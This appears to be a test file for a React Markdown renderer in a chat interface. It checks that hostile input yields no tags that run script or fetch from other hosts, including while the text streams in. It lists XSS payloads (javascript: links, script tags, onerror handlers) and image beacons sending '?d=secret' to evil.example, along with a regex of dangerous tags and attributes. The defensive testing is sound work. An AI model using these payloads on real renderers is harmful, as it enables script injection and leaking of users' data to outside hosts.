import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { TooltipProvider } from "@/components/ui/tooltip";

import { Markdown } from "./markdown";

function render(text: string, isStreaming = false): string {
  return renderToStaticMarkup(
    <TooltipProvider>
      <Markdown isStreaming={isStreaming}>{text}</Markdown>
    </TooltipProvider>,
  );
}

/** The tags of a markup without the text between them, which React has escaped. */
function tagsOf(markup: string): string {
  return (markup.match(/<[^>]*>/g) ?? []).join("\n");
}

/** Whatever could make a browser run something, or ask another host for something, by being shown. */
const dangerous =
  /<(script|style|iframe|object|embed|form|img|image|link|meta|base|video|audio|source|foreignobject)[\s/>]|\son[a-z]+=|\b(src|srcset|ping|background|poster|action|formaction|xlink:href)=/i;

const hostile = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <b onclick=alert(1)>bold</b> text",
  "<style>@import 'https://evil.example/x.css'</style>",
  '<a href="https://evil.example" ping="https://evil.example/p">x</a>',
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  "![beacon](https://evil.example/p?d=secret)",
  "![beacon][r]\n\n[r]: https://evil.example/p?d=secret",
  "![beacon](//evil.example/p?d=secret)",
  '<svg><image href="https://evil.example/p"/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
  "```html\n<script>alert(1)</script>\n```",
  "$$\\href{javascript:alert(1)}{x}$$",
  "<https://evil.example/auto?d=secret>",
  "| a |\n|---|\n| ![x](https://evil.example/t) |",
  "[![x](https://evil.example/i)](https://evil.example/l)",
  "<!-- <img src=x> -->",
];

describe("Markdown", () => {
  it.each(hostile)("F-56 makes nothing of %j that runs or fetches", (text) => {
    expect(tagsOf(render(text))).not.toMatch(dangerous);
  });

  it.each(hostile)("F-57 makes nothing of %j that runs or fetches at any point of its streaming", (text) => {
    for (let length = 1; length <= text.length; length += 1)
      expect(tagsOf(render(text.slice(0, length), true))).not.toMatch(dangerous);
  });

  it("F-56 shows raw HTML as the text it is", () => {
    expect(render("before <b>bold</b> after")).toContain("&lt;b&gt;bold&lt;/b&gt;");
  });

  it("F-57 names the host of an image that it does not load", () => {
    const markup = render("![Chart](https://evil.example/p?d=secret)");
    expect(markup).toContain("Chart: image from evil.example is not loaded");
    expect(markup).not.toContain("secret");
  });

  it("F-56 leaves a link that must not be followed as its words", () => {
    for (const target of [
      "javascript:alert(1)",
      "data:text/html,x",
      "file:///etc/passwd",
      "/admin",
      "//evil.example/x",
      "irc://evil.example",
    ]) {
      const markup = render(`[words](${target})`);
      expect(markup).toContain("words");
      expect(markup).not.toContain("<a ");
    }
  });

  it("gives a followed link no opener, no referrer and no rank", () => {
    const markup = render("See [the page](https://example.com/a) or ann@example.com.");
    expect(markup).toContain('href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow"');
    expect(markup).toContain('href="mailto:ann@example.com"');
  });

  it("shows code as it is, under its language, also while its fence is open", () => {
    for (const markup of [render("```python\nprint('<b>')\n```"), render("```python\nprint('<b>')", true)]) {
      expect(markup).toContain("python");
      expect(markup).toContain("print(&#x27;&lt;b&gt;&#x27;)");
      expect(markup).toContain('aria-label="Copy code"');
    }
  });

  it("shows tables, lists and emphasis", () => {
    const markup = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n- one\n- **two**\n");
    for (const piece of ["<table", "<th", "<td", "<ul", "<strong"]) expect(markup).toContain(piece);
  });
});
